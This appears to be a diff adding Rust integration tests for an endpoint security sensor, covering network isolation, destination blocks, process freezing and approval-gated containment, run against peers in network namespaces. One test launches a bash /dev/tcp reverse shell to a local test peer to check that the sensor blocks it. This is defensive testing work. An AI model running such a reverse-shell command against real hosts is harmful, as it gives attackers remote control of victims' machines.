@@ -1,0 +1,647 @@
+//! Network containment and freezing on the real kernel: host isolation, destination blocks
+//! and the cgroup freezer, with real sockets to a peer in a network namespace the test makes.
+//!
+//! The sensor's network programs attach to a cgroup the test creates (`--cgroup`), and the
+//! "host" under test is the processes the test puts in it: isolating the real cgroup root would
+//! cut this machine's own traffic. Every peer lives in a network namespace reached over a veth
+//! pair, so the isolated side has a real route to reach or be refused.
+
+use std::{
+    io::{BufRead as _, BufReader, Write as _},
+    path::{Path, PathBuf},
+    process::{Child, Command, Stdio},
+    time::{Duration, Instant},
+};
+
+use serde_json::Value;
+use vigil_tests::{Sensor, kernel_tests_enabled};
+
+fn sh(cmd: &str) {
+    let out = Command::new("sh")
+        .args(["-c", cmd])
+        .output()
+        .expect("run sh");
+    assert!(
+        out.status.success(),
+        "{cmd}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// A network namespace holding the peer, joined to this one by a veth pair: the host side is
+/// `10.N.0.1`, the peer `10.N.0.2`. Deleted on drop (with its listeners).
+struct Peer {
+    ns: String,
+    host_if: String,
+    addr: String,
+    listeners: Option<Child>,
+}
+
+/// Echo listeners on the ports given; a port written `NNNNs` only swallows what it gets.
+const ECHO: &str = r#"
+import socket, sys, threading
+def serve(port, echo):
+    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("0.0.0.0", port)); s.listen(64)
+    while True:
+        c, _ = s.accept()
+        def talk(c):
+            try:
+                while True:
+                    d = c.recv(100)
+                    if not d: break
+                    if echo: c.sendall(d)
+            except OSError:
+                pass
+        threading.Thread(target=talk, args=(c,), daemon=True).start()
+for p in sys.argv[1:]:
+    threading.Thread(target=serve, args=(int(p.rstrip("s")), not p.endswith("s")), daemon=True).start()
+print("listening", flush=True)
+sys.stdin.read()
+"#;
+
+impl Peer {
+    fn new(ports: &[u16]) -> Self {
+        Self::with(ports, &[])
+    }
+
+    /// Echo listeners on `ports`, and listeners on `sinks` that only swallow input.
+    fn with(ports: &[u16], sinks: &[u16]) -> Self {
+        let id = std::process::id() % 200 + 20;
+        let ns = format!("vigil-t{id}");
+        let host_if = format!("vt{id}h");
+        let _ = Command::new("ip").args(["netns", "del", &ns]).output();
+        let _ = Command::new("ip").args(["link", "del", &host_if]).output();
+        sh(&format!(
+            "ip netns add {ns} && ip link add {host_if} type veth peer name vt{id}n && \
+             ip link set vt{id}n netns {ns} && ip addr add 10.{id}.0.1/30 dev {host_if} && \
+             ip link set {host_if} up && ip -n {ns} addr add 10.{id}.0.2/30 dev vt{id}n && \
+             ip -n {ns} link set vt{id}n up && ip -n {ns} link set lo up"
+        ));
+        let mut peer = Self {
+            ns: ns.clone(),
+            host_if,
+            addr: format!("10.{id}.0.2"),
+            listeners: None,
+        };
+        let mut child = Command::new("ip")
+            .args(["netns", "exec", &ns, "python3", "-c", ECHO])
+            .args(ports.iter().map(ToString::to_string))
+            .args(sinks.iter().map(|p| format!("{p}s")))
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()
+            .expect("start the peer's listeners");
+        let mut line = String::new();
+        let out = child.stdout.take().expect("stdout");
+        BufReader::new(out).read_line(&mut line).expect("read");
+        assert_eq!(line.trim(), "listening");
+        peer.listeners = Some(child);
+        peer
+    }
+}
+
+impl Drop for Peer {
+    fn drop(&mut self) {
+        if let Some(mut c) = self.listeners.take() {
+            let _ = c.kill();
+            let _ = c.wait();
+        }
+        let _ = Command::new("ip").args(["netns", "del", &self.ns]).output();
+        let _ = Command::new("ip")
+            .args(["link", "del", &self.host_if])
+            .output();
+    }
+}
+
+/// A cgroup v2 group standing for "the host" the sensor contains. On drop, whatever runs in
+/// it (and in the groups the response made under it) is killed and the groups removed.
+struct Cgroup {
+    path: PathBuf,
+}
+
+impl Cgroup {
+    fn new() -> Self {
+        let mounts = std::fs::read_to_string("/proc/self/mounts").expect("mounts");
+        let mount = mounts
+            .lines()
+            .find_map(|l| {
+                let f: Vec<&str> = l.split_whitespace().collect();
+                (f.get(2) == Some(&"cgroup2")).then(|| PathBuf::from(f[1]))
+            })
+            .expect("a cgroup2 mount");
+        let path = mount.join(format!("vigil-test-{}", std::process::id()));
+        let _ = std::fs::create_dir(&path);
+        Self { path }
+    }
+
+    fn arg(&self) -> &str {
+        self.path.to_str().expect("utf-8 path")
+    }
+
+    /// Runs python `code` (with `args`) inside the group; its stdout is piped.
+    fn python(&self, code: &str, args: &[&str]) -> Child {
+        Command::new("sh")
+            .arg("-c")
+            .arg(format!(
+                "echo $$ > {}/cgroup.procs && exec python3 -c \"$0\" \"$@\"",
+                self.arg()
+            ))
+            .arg(code)
+            .args(args)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::inherit())
+            .spawn()
+            .expect("spawn python in the cgroup")
+    }
+}
+
+fn kill_and_remove(dir: &Path) {
+    if let Ok(entries) = std::fs::read_dir(dir) {
+        for e in entries.filter_map(Result::ok) {
+            if e.path().is_dir() {
+                kill_and_remove(&e.path());
+            }
+        }
+    }
+    let _ = std::fs::write(dir.join("cgroup.freeze"), "0");
+    let _ = std::fs::write(dir.join("cgroup.kill"), "1");
+    for _ in 0..100 {
+        if std::fs::remove_dir(dir).is_ok() || !dir.exists() {
+            return;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+impl Drop for Cgroup {
+    fn drop(&mut self) {
+        kill_and_remove(&self.path);
+    }
+}
+
+/// Connects to each port of `addr` from inside the group and echoes a byte: `reach` or
+/// `fail: why` per port.
+const PROBE: &str = r#"
+import socket, sys
+addr = sys.argv[1]
+for port in sys.argv[2:]:
+    try:
+        s = socket.create_connection((addr, int(port)), timeout=1.5)
+        s.sendall(b"x"); s.settimeout(1.5)
+        print(port, "reach" if s.recv(1) == b"x" else "fail: no echo", flush=True)
+        s.close()
+    except Exception as e:
+        print(port, "fail:", e, flush=True)
+"#;
+
+fn probe(cg: &Cgroup, addr: &str, ports: &[u16]) -> Vec<(u16, String)> {
+    let ports: Vec<String> = ports.iter().map(ToString::to_string).collect();
+    let mut args = vec![addr];
+    args.extend(ports.iter().map(String::as_str));
+    let out = cg
+        .python(PROBE, &args)
+        .wait_with_output()
+        .expect("probe output");
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter_map(|l| {
+            let (port, rest) = l.split_once(' ')?;
+            Some((port.parse().ok()?, rest.to_owned()))
+        })
+        .collect()
+}
+
+fn reaches(results: &[(u16, String)], port: u16) -> bool {
+    results.iter().any(|(p, r)| *p == port && r == "reach")
+}
+
+/// Holds one connection open: echoes a byte at once, then once per line read on stdin,
+/// printing `ok` or `cut: why` each time.
+const HOLD: &str = r#"
+import socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=2)
+s.settimeout(1.5)
+def echo():
+    try:
+        s.sendall(b"y")
+        return "ok" if s.recv(1) == b"y" else "cut: no echo"
+    except Exception as e:
+        return "cut: %s" % e
+print(echo(), flush=True)
+for _ in sys.stdin:
+    print(echo(), flush=True)
+"#;
+
+struct Held {
+    child: Child,
+    out: BufReader<std::process::ChildStdout>,
+}
+
+impl Held {
+    fn open(cg: &Cgroup, addr: &str, port: u16) -> Self {
+        let mut child = cg.python(HOLD, &[addr, &port.to_string()]);
+        let out = BufReader::new(child.stdout.take().expect("stdout"));
+        let mut held = Self { child, out };
+        assert_eq!(held.line(), "ok", "the connection works before containment");
+        held
+    }
+
+    fn line(&mut self) -> String {
+        let mut l = String::new();
+        self.out.read_line(&mut l).expect("read");
+        l.trim().to_owned()
+    }
+
+    fn echo(&mut self) -> String {
+        let stdin = self.child.stdin.as_mut().expect("stdin");
+        stdin.write_all(b"\n").expect("write");
+        stdin.flush().expect("flush");
+        self.line()
+    }
+}
+
+impl Drop for Held {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// Runs an order and returns the id of the action it journaled.
+fn order(s: &Sensor, args: &[&str]) -> String {
+    let out = s.ctl(args);
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(
+        out.status.success(),
+        "{args:?}: {text}{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    text.split_whitespace()
+        .next()
+        .expect("an action id")
+        .to_owned()
+}
+
+fn journal(s: &Sensor) -> Vec<Value> {
+    let out = s.ctl(&["actions", "--json"]);
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect()
+}
+
+fn record(s: &Sensor, id: &str) -> Value {
+    journal(s)
+        .into_iter()
+        .find(|r| r["id"] == id)
+        .unwrap_or_else(|| panic!("no record {id}"))
+}
+
+fn network_status(s: &Sensor) -> Value {
+    s.status().expect("status")["actions"]["network"].clone()
+}
+
+/// The shipped policy in observe mode, with `allow` reachable during isolation.
+fn policy_allowing(dir: &Path, allow: &str) -> PathBuf {
+    let shipped = std::fs::read_to_string(
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/policy.toml"),
+    )
+    .expect("shipped policy");
+    let text = shipped
+        .replace("mode = \"contain\"", "mode = \"observe\"")
+        .replace("allow = []", &format!("allow = [\"{allow}\"]"));
+    assert_ne!(text, shipped);
+    let path = dir.join("policy.toml");
+    std::fs::write(&path, text).expect("write policy");
+    path
+}
+
+#[test]
+fn isolation_leaves_only_loopback_and_the_allowed_peer_survives_a_restart_and_undoes() {
+    if !kernel_tests_enabled("isolation") {
+        return;
+    }
+    let _one = vigil_tests::one_at_a_time();
+    let (allowed, other) = (7101, 7102);
+    let peer = Peer::new(&[allowed, other]);
+    let cg = Cgroup::new();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let policy = policy_allowing(dir.path(), &format!("{}:{allowed}", peer.addr));
+    let local = std::net::TcpListener::bind("127.0.0.1:0").expect("loopback listener");
+    let local_port = local.local_addr().expect("addr").port();
+    std::thread::spawn(move || {
+        for c in local.incoming().take(8).flatten() {
+            let mut c = c;
+            let mut b = [0u8; 1];
+            if std::io::Read::read_exact(&mut c, &mut b).is_ok() {
+                let _ = c.write_all(&b);
+            }
+        }
+    });
+    let sensor = Sensor::start_with(&[
+        "--cgroup",
+        cg.arg(),
+        "--policy",
+        policy.to_str().expect("utf-8"),
+    ])
+    .expect("sensor");
+
+    let before = probe(&cg, &peer.addr, &[allowed, other]);
+    assert!(
+        reaches(&before, allowed) && reaches(&before, other),
+        "{before:?}"
+    );
+    let mut held = Held::open(&cg, &peer.addr, other);
+
+    let id = order(
+        &sensor,
+        &["isolate", "--reason", "test: intruder on the host"],
+    );
+    let rec = record(&sensor, &id);
+    assert_eq!(rec["action"], "isolate");
+    assert_eq!(rec["status"], "done", "{rec}");
+    assert_eq!(rec["undo"]["how"], "end_isolation");
+    assert!(rec["reason"].as_str().unwrap_or("").contains("intruder"));
+
+    let during = probe(&cg, &peer.addr, &[allowed, other]);
+    assert!(reaches(&during, allowed), "the allowed peer: {during:?}");
+    assert!(
+        during
+            .iter()
+            .any(|(p, r)| *p == other && r.contains("Operation not permitted")),
+        "a new connection elsewhere is refused at connect: {during:?}"
+    );
+    assert!(
+        reaches(&probe(&cg, "127.0.0.1", &[local_port]), local_port),
+        "loopback stays reachable"
+    );
+    let cut = held.echo();
+    assert!(cut.starts_with("cut"), "an open connection is cut: {cut}");
+    // Only the watched cgroup is isolated: this test process, outside it, still reaches.
+    let outside = std::net::TcpStream::connect_timeout(
+        &format!("{}:{other}", peer.addr).parse().expect("addr"),
+        Duration::from_secs(2),
+    );
+    assert!(outside.is_ok(), "outside the cgroup: {outside:?}");
+    let net = network_status(&sensor);
+    assert_eq!(net["isolated"], true);
+    assert!(net["connects_refused"].as_u64().unwrap_or(0) >= 1, "{net}");
+    assert!(net["packets_dropped"].as_u64().unwrap_or(0) >= 1, "{net}");
+
+    // A restart never lifts the isolation.
+    let sensor = sensor
+        .restart(&[
+            "--cgroup",
+            cg.arg(),
+            "--policy",
+            policy.to_str().expect("utf-8"),
+        ])
+        .expect("restart");
+    let after_restart = probe(&cg, &peer.addr, &[allowed, other]);
+    assert!(
+        reaches(&after_restart, allowed) && !reaches(&after_restart, other),
+        "after a restart: {after_restart:?}\n{}",
+        sensor.log()
+    );
+    assert_eq!(network_status(&sensor)["isolated"], true);
+    assert!(sensor.status().expect("status")["actions"]["restored"].as_u64() >= Some(1));
+
+    let undo = order(&sensor, &["undo", &id]);
+    assert_eq!(record(&sensor, &undo)["status"], "done");
+    let released = probe(&cg, &peer.addr, &[allowed, other]);
+    assert!(
+        reaches(&released, allowed) && reaches(&released, other),
+        "full reach after the undo: {released:?}"
+    );
+    assert_eq!(network_status(&sensor)["isolated"], false);
+}
+
+#[test]
+fn destination_blocks_host_wide_and_for_one_tree() {
+    if !kernel_tests_enabled("destination block") {
+        return;
+    }
+    let _one = vigil_tests::one_at_a_time();
+    let (kept, blocked) = (7111, 7112);
+    let peer = Peer::new(&[kept, blocked]);
+    let cg = Cgroup::new();
+    let sensor = Sensor::start_with(&["--cgroup", cg.arg()]).expect("sensor");
+
+    let mut held = Held::open(&cg, &peer.addr, blocked);
+    let id = order(
+        &sensor,
+        &[
+            "block",
+            &format!("{}:{blocked}", peer.addr),
+            "--reason",
+            "test: C2 endpoint",
+        ],
+    );
+    let rec = record(&sensor, &id);
+    assert_eq!(rec["action"], "block_destination");
+    assert_eq!(rec["target"]["type"], "destination");
+    assert_eq!(rec["undo"]["how"], "lift_block");
+    let during = probe(&cg, &peer.addr, &[kept, blocked]);
+    assert!(
+        reaches(&during, kept) && !reaches(&during, blocked),
+        "{during:?}"
+    );
+    assert!(held.echo().starts_with("cut"), "the open connection is cut");
+    // Loopback is never blocked: refused and said.
+    let lo = sensor.ctl(&["block", "127.0.0.1:22", "--reason", "test"]);
+    assert!(!lo.status.success());
+    assert!(String::from_utf8_lossy(&lo.stderr).contains("loopback"));
+    order(&sensor, &["undo", &id]);
+    let lifted = probe(&cg, &peer.addr, &[kept, blocked]);
+    assert!(reaches(&lifted, blocked), "{lifted:?}");
+
+    // For one tree: a process that probes when told, and its child born after the block.
+    let tree_code = format!(
+        "import subprocess, sys\n\
+         sys.stdin.readline()\n\
+         print(subprocess.run([sys.executable, '-c', {PROBE:?}, {addr:?}, '{kept}'], \
+         capture_output=True, text=True).stdout.strip(), flush=True)\n",
+        addr = peer.addr,
+    );
+    let mut tree = cg.python(&tree_code, &[]);
+    let tree_pid = tree.id().to_string();
+    // Give sh time to exec python (the pid is the same; the sensor sees the live process).
+    std::thread::sleep(Duration::from_millis(300));
+    let id = order(
+        &sensor,
+        &[
+            "block",
+            &format!("{}:{kept}", peer.addr),
+            "--pid",
+            &tree_pid,
+            "--reason",
+            "test: this tree only",
+        ],
+    );
+    let rec = record(&sensor, &id);
+    assert_eq!(rec["status"], "done", "{rec}");
+    let group = rec["undo"]["group"]["path"]
+        .as_str()
+        .expect("a group")
+        .to_owned();
+    assert!(group.starts_with(cg.arg()), "{group}");
+    let stdin = tree.stdin.as_mut().expect("stdin");
+    stdin.write_all(b"go\n").expect("write");
+    let out = tree.wait_with_output().expect("tree output");
+    let said = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        said.contains(&format!("{kept} fail")),
+        "the tree's child is refused: {said}"
+    );
+    let others = probe(&cg, &peer.addr, &[kept]);
+    assert!(
+        reaches(&others, kept),
+        "the rest of the host is not: {others:?}"
+    );
+    order(&sensor, &["undo", &id]);
+    assert!(!Path::new(&group).exists(), "the tree's cgroup is removed");
+}
+
+#[test]
+fn freeze_stops_a_tree_and_its_later_children_and_undo_thaws_it() {
+    if !kernel_tests_enabled("freeze") {
+        return;
+    }
+    let _one = vigil_tests::one_at_a_time();
+    let cg = Cgroup::new();
+    let sensor = Sensor::start_with(&["--cgroup", cg.arg()]).expect("sensor");
+    let dir = tempfile::tempdir().expect("tempdir");
+    let (a, b) = (dir.path().join("parent"), dir.path().join("child"));
+    // A parent and a child, each appending a line every 20 ms.
+    let code = format!(
+        "import os, time\n\
+         path = {b:?} if os.fork() == 0 else {a:?}\n\
+         for i in range(3000):\n\
+         \x20   open(path, 'a').write('x')\n\
+         \x20   time.sleep(0.02)\n",
+        a = a.to_string_lossy(),
+        b = b.to_string_lossy(),
+    );
+    let mut tree = cg.python(&code, &[]);
+    let pid = tree.id().to_string();
+    let size = |p: &Path| std::fs::metadata(p).map(|m| m.len()).unwrap_or(0);
+    let deadline = Instant::now() + Duration::from_secs(5);
+    while size(&a) < 3 || size(&b) < 3 {
+        assert!(Instant::now() < deadline, "the tree did not start writing");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+
+    let id = order(&sensor, &["freeze", &pid, "--reason", "test: investigate"]);
+    let rec = record(&sensor, &id);
+    assert_eq!(rec["status"], "done", "{rec}");
+    assert_eq!(
+        rec["undo"]["how"], "thaw",
+        "the cgroup freezer was used: {rec}"
+    );
+    let group = PathBuf::from(rec["undo"]["group"]["path"].as_str().expect("group"));
+    let events = std::fs::read_to_string(group.join("cgroup.events")).expect("events");
+    assert!(events.contains("frozen 1"), "{events}");
+    let (sa, sb) = (size(&a), size(&b));
+    std::thread::sleep(Duration::from_millis(500));
+    assert_eq!(
+        (size(&a), size(&b)),
+        (sa, sb),
+        "neither the process nor its child runs while frozen"
+    );
+
+    order(&sensor, &["undo", &id]);
+    let deadline = Instant::now() + Duration::from_secs(5);
+    while size(&a) <= sa || size(&b) <= sb {
+        assert!(Instant::now() < deadline, "the tree did not resume");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    assert!(!group.exists(), "the freezer group is removed");
+    let _ = tree.kill();
+    let _ = tree.wait();
+}
+
+#[test]
+fn a_reverse_shell_to_a_remote_peer_gets_its_destination_blocked_and_isolation_waits_for_approval()
+{
+    if !kernel_tests_enabled("reverse shell containment") {
+        return;
+    }
+    let _one = vigil_tests::one_at_a_time();
+    let (kept, c2) = (7121, 7122);
+    let peer = Peer::with(&[kept], &[c2]);
+    let cg = Cgroup::new();
+    // The shipped policy, as a user runs it: contain, isolation only with approval.
+    let sensor = Sensor::start_containing(&["--cgroup", cg.arg()]).expect("sensor");
+
+    let shell = Command::new("sh")
+        .arg("-c")
+        .arg(format!(
+            "echo $$ > {}/cgroup.procs && exec bash -c 'bash -i >& /dev/tcp/{}/{c2} 0>&1'",
+            cg.arg(),
+            peer.addr
+        ))
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("spawn the reverse shell");
+    let status = shell.wait_with_output().expect("wait").status;
+    let deadline = Instant::now() + Duration::from_secs(15);
+    let block = loop {
+        let all = journal(&sensor);
+        if let Some(b) = all
+            .iter()
+            .find(|r| r["action"] == "block_destination" && r["status"] == "done")
+        {
+            break b.clone();
+        }
+        assert!(
+            Instant::now() < deadline,
+            "no destination block; journal: {all:?}; alerts: {:?}",
+            sensor.alerts()
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    };
+    assert!(!status.success(), "the shell was killed: {status:?}");
+    assert_eq!(block["target"]["addr"], peer.addr.as_str(), "{block}");
+    assert_eq!(block["target"]["port"], c2, "{block}");
+    let during = probe(&cg, &peer.addr, &[kept, c2]);
+    assert!(
+        reaches(&during, kept) && !reaches(&during, c2),
+        "only the C2 endpoint is refused: {during:?}"
+    );
+
+    let incident = block["incident"].as_str().expect("incident").to_owned();
+    let all = journal(&sensor);
+    let pending = all
+        .iter()
+        .find(|r| r["action"] == "isolate" && r["incident"] == incident.as_str())
+        .unwrap_or_else(|| panic!("an isolation is planned: {all:?}"));
+    assert_eq!(pending["status"], "pending", "{pending}");
+    assert!(
+        reaches(&probe(&cg, &peer.addr, &[kept]), kept),
+        "not isolated before approval"
+    );
+
+    let approved = sensor.ctl(&["approve", &incident]);
+    assert!(
+        approved.status.success(),
+        "{}",
+        String::from_utf8_lossy(&approved.stderr)
+    );
+    let isolation = journal(&sensor)
+        .into_iter()
+        .find(|r| r["action"] == "isolate" && r["status"] == "done")
+        .expect("isolated once approved");
+    assert!(
+        !reaches(&probe(&cg, &peer.addr, &[kept]), kept),
+        "isolated once approved"
+    );
+    for id in [&isolation["id"], &block["id"]] {
+        order(&sensor, &["undo", id.as_str().expect("id")]);
+    }
+    let released = probe(&cg, &peer.addr, &[kept]);
+    assert!(reaches(&released, kept), "{released:?}");
+}
